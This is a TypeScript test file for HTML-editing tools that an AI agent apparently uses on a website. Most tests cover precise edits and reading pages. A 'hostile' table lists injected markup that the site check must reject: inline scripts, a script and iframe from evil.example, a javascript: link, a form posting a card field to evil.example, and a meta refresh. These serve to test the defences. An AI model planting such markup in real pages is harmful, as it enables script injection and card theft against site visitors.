import { expect } from 'chai';
import { testPages as pages } from '../../../../helpers/threads.ts';
import { memoryTree } from '../../memoryTree.ts';
import { demo, openModelTools } from './site.ts';

const slug = '/pricing';
const starter = (text: string) => ({ old: '<h3>Starter</h3>', new: `<h3>${text}</h3>` });

describe('edit_html', () => {
  const open = () => openModelTools(demo, pages);

  it('changes no other byte, and returns the changed lines', async () => {
    const { done, changed } = open();
    const before = await demo.read('pricing.html');
    const answer = await done('edit_html', { slug, edits: [starter('Beginner')] });
    expect(changed().get('pricing.html')).to.equal(before.replace('<h3>Starter', '<h3>Beginner'));
    expect([...changed().keys()]).to.deep.equal(['pricing.html']);
    expect(answer).to.equal(
      [
        '128:             <article class="card">',
        '129:               <h3>Beginner</h3>',
        '130:               <p class="amount">$4,800</p>',
      ].join('\n'),
    );
  });

  it('does not report an old text that the new text contains', async () => {
    const { done } = open();
    const old = 'Three prices. They do not move.';
    const answer = await done('edit_html', { slug, edits: [{ old, new: `${old} Really.` }] });
    expect(answer).to.not.contain('still says');
  });

  it('makes all edits of a call, or none', async () => {
    const { done, refusal, changed } = open();
    expect(
      await refusal('edit_html', { slug, edits: [starter('A'), { old: 'Startre', new: 'B' }] }),
    ).to.match(/^Edit 2: the page has no such text as old; nearest are line \d+: /);
    expect(changed().size).to.equal(0);
    await done('edit_html', {
      slug,
      edits: [
        { copy: [128, 133], after: 133 },
        { lines: [129, 129], new: '<h3>A</h3>' },
      ],
    });
    expect(
      changed()
        .get('pricing.html')!
        .match(/<article/g),
    ).to.have.length(4);
  });

  it('edits the same block on every page at any depth, and names the pages without it', async () => {
    const { done, changed } = open();
    const old = '<li><a href="about">About</a></li>';
    const edits = [{ old, new: `${old}\n<li><a href="pricing#faq">Questions</a></li>` }];
    const answer = await done('edit_html', { slug: '/', edits, everywhere: true });
    expect(answer).to.match(/^Also on 13 other pages$/m);
    expect(changed().get('404.html')).to.match(/\n +<li><a href="\/?pricing#faq">/);
    expect(changed().get('services/web-design/index.html')).to.match(
      /\n {10,}<li><a href="..\/..\/pricing#faq">Questions<\/a><\/li>\n/,
    );
    const lone = { old: '<h3>Starter</h3>', new: '<h3>First</h3>' };
    expect(await done('edit_html', { slug, edits: [lone], everywhere: true })).to.match(
      /^Also on 0 other pages; not found on .* and \d+ more$/m,
    );
  });

  it('treats a no-break space as a space, and keeps it outside of the difference', async () => {
    const site = memoryTree({
      'index.html': '<!doctype html>\n<h1>A</h1>\n<p>Only 10\u00a0km from Lisbon</p>\n',
    });
    const { done, changed } = openModelTools(site, pages);
    const edits = [{ old: 'Only 10 km from Lisbon', new: 'Only 12 km from Lisbon' }];
    await done('edit_html', { slug: '/', edits });
    expect(changed().get('index.html')).to.contain('<p>Only 12\u00a0km from Lisbon</p>');
  });

  it('gives an element a class that the task has just written into a style sheet', async () => {
    const site = memoryTree({
      'index.html':
        '<!doctype html>\n<link rel="stylesheet" href="site.css">\n<h1>A</h1>\n<p>Sale</p>\n',
      'site.css': 'p { color: red }\n',
    });
    const { done, changed } = openModelTools(site, pages);
    const edits = [{ old: '<p>Sale', new: '<p class="desktop-only">Sale' }];
    const replace =
      'p { color: red }\n@media (max-width: 600px) { .desktop-only { display: none } }';
    await done('edit_file', { path: 'site.css', find: 'p { color: red }', replace });
    await done('edit_html', { slug: '/', edits });
    await done('finish', { summary: 'Hidden on phones' });
    expect([...changed().keys()]).to.have.members(['index.html', 'site.css']);
  });

  it('reports where the page still has the replaced text', async () => {
    const { done } = open();
    const old = 'Three prices. They do not move.';
    const answer = await done('edit_html', { slug, edits: [{ old, new: 'Three plans' }] });
    expect(answer).not.to.contain('still says');
    const title = 'Pricing: fixed prices for websites';
    const edits = [{ old: `<title>${title} |`, new: '<title>Plans |' }];
    expect(await done('edit_html', { slug, edits })).not.to.contain('finish would be refused');
    const site = memoryTree({
      'index.html': `<!doctype html>\n<html lang="en"><head><title>Our team</title>\n<meta property="og:title" content="Our team"></head>\n<body><h1>Our team</h1></body></html>\n`,
    });
    const { done: edit } = openModelTools(site, pages);
    expect(
      await edit('edit_html', { slug: '/', edits: [{ old: '<h1>Our team', new: '<h1>Us' }] }),
    ).to.match(/^The page still says "Our team" in lines 2, 3$/m);
  });

  const hostile: Record<string, [markup: string, says: RegExp]> = {
    'a script': ['<script>alert(1)</script>', /<script>: a script/],
    'a script of another site': [
      '<script src="https://evil.example/x.js"></script>',
      /"\/\/evil\.example"/,
    ],
    'an event handler': ['<p onclick="alert(1)">x</p>', /<p onclick>/],
    'a frame': ['<iframe src="https://evil.example/"></iframe>', /<iframe/],
    'an address that runs': ['<a href="javascript:alert(1)">x</a>', /"javascript:|<a href>/],
    'a form that sends elsewhere': [
      '<form action="https://evil.example/"><input name="card"></form>',
      /evil\.example|<form>/,
    ],
    'a base': ['<base href="https://evil.example/">', /<base/],
    'a refresh': ['<meta http-equiv="refresh" content="0; url=https://evil.example/">', /refresh/],
    'a picture of another site': ['<img src="https://evil.example/x.gif" alt="">', /evil\.example/],
    'an open element': ['<div><p>x</p>', /parse error|closed/],
    'a placeholder': ['<p>Lorem ipsum dolor sit amet {{name}}</p>', /placeholder/],
    'a class of another site': ['<p class="no-such-class">x</p>', /class/],
    'a style of its own': ['<p style="position: fixed; inset: 0">x</p>', /style/],
    'a link to nothing': ['<p><a href="/nowhere">x</a></p>', /"\/nowhere" leads to nothing/],
    'an id twice': ['<p id="packages">x</p>', /the id "packages" occurs 2 times/],
  };
  for (const [what, [markup, says]] of Object.entries(hostile))
    it(`reports what the check rejects, which prevents the task from ending: ${what}`, async () => {
      const { done, workspace } = open();
      const edits = [{ old: '</main>', new: `${markup}</main>` }];
      const answer = await done('edit_html', { slug, edits });
      expect(answer).to.match(/^finish would be refused\. /m);
      expect(answer.split('\n').at(-1)).to.match(says);
      const { finished, results } = await workspace.runTurn({
        text: '',
        toolCalls: [{ id: 'f', name: 'finish', arguments: { summary: 'Done' } }],
      });
      expect(finished).to.equal(false);
      expect(results[0]!.content)
        .to.match(/^Not finished: /)
        .and.to.match(says);
    });

  it('refuses to write a text that a result had cut', async () => {
    const { done, refusal, changed } = openModelTools(
      memoryTree({
        'index.html': `<!doctype html>\n<html lang="en"><head><title>A</title></head>\n<body><h1>A</h1><svg><path d="M0 ${'1 2 '.repeat(200)}"/></svg>\n<img alt="" src="data:image/png;base64,${'A'.repeat(500)}">\n</body></html>\n`,
      }),
      pages,
    );
    const html = await done('read_html', { slug: '/' });
    expect(html)
      .to.match(/<path d="M0 [^"]{37}…\[\d+ characters cut\]"/)
      .and.to.match(/src="data:image\/png[^"]*…\[\d+ characters cut\]"/)
      .and.to.match(/\n"…\[n characters cut\]" stands for what is not shown/);
    const [path] = /<path[^>]*>/.exec(html)!;
    expect(
      await refusal('edit_html', { slug: '/', edits: [{ old: path, new: '<path>' }] }),
    ).to.match(/^Edit 1 has "…\[n characters cut\]"/);
    expect(changed().size).to.equal(0);
  });

  it('accepts one kind of edit per call', async () => {
    const { refusal } = open();
    for (const edit of [
      {},
      { old: 'a' },
      { new: 'a' },
      { old: 'a', lines: [1, 2], new: '' },
      { lines: [1], new: '' },
      { lines: [1, 2, 3], new: '' },
      { lines: ['1', '2'], new: '' },
      { copy: [1, 2] },
      { copy: [1, 2], after: 3, new: '' },
    ])
      expect(await refusal('edit_html', { slug, edits: [edit] }), JSON.stringify(edit)).to.match(
        /^Wrong arguments for edit_html: .* Expected: \{ slug, edits, everywhere\? \}$/,
      );
  });
});

describe('read_html', () => {
  it('reads lines, or the surroundings of a text in any case and white space', async () => {
    const { done, refusal } = openModelTools(demo, pages);
    const around = await done('read_html', { slug, around: 'choose\n starter' });
    expect(around.split('\n')).to.have.length(25);
    expect(around).to.match(/^132: .*Choose Starter/m);
    expect(await done('read_html', { slug, lines: [129, 130] })).to.equal(
      '129:               <h3>Starter</h3>\n130:               <p class="amount">$4,800</p>',
    );
    expect(await done('read_html', { slug, around: '<h3>' })).to.match(
      /^Found in 3 lines: 129, 135, 141\n/,
    );
    expect(await refusal('read_html', { slug, around: 'Startre' })).to.match(
      /^The page has no such text; nearest are line \d+: .*Starter/,
    );
    expect(await refusal('read_html', { slug, lines: [400, 410] })).to.match(
      /There are no lines \[400, 410\]: the page has 290 lines/,
    );
  });

  it('pages through a long page, and limits the surroundings of a text in one long line', async () => {
    const rows = Array.from({ length: 3_000 }, (_, i) => `<p>Row ${i}</p>`);
    const files = { 'a.html': rows.join('\n'), 'b.html': rows.join('') };
    const { done } = openModelTools(memoryTree(files), pages);
    const first = await done('read_html', { slug: '/a' });
    expect(first.length).to.be.below(24_200);
    const [, next] = /\nThe page has 3000 lines: read on from line (\d+)$/.exec(first)!;
    const more = await done('read_html', { slug: '/a', lines: [Number(next), 3000] });
    expect(more).to.match(new RegExp(`^${next}: <p>Row ${Number(next) - 1}</p>\n`));
    const around = await done('read_html', { slug: '/b', around: 'Row 1500' });
    expect(around.length).to.be.below(2_000);
    expect(around).to.match(/^1: ….*<p>Row 1500<\/p>.*…$/);
    expect((await done('read_html', { slug: '/b' })).length).to.be.below(24_200);
  });
});

describe('replace_text', () => {
  it('reports the numbers of pages and places, and where a URL has the text', async () => {
    const page = '<p>Acme</p><p>Write to Acme@acme.example</p>';
    const files = { 'a.html': page, 'b.html': '<p>Acme &amp; Acme</p>', 'c.html': '<p>Us</p>' };
    const { done, changed } = openModelTools(memoryTree(files), pages);
    const answer = await done('replace_text', { from: 'Acme', to: 'Brick' });
    expect(answer.split('\n')[0]).to.equal(
      '2 pages, 3 places; left in an address on /a; /a 1, /b 2',
    );
    expect(changed().get('a.html')).to.equal(page.replace('Acme', 'Brick'));
    expect(
      (await done('replace_text', { slug: '/c', from: 'Us', to: 'You' })).split('\n')[0],
    ).to.equal('1 page, 1 place');
  });
});
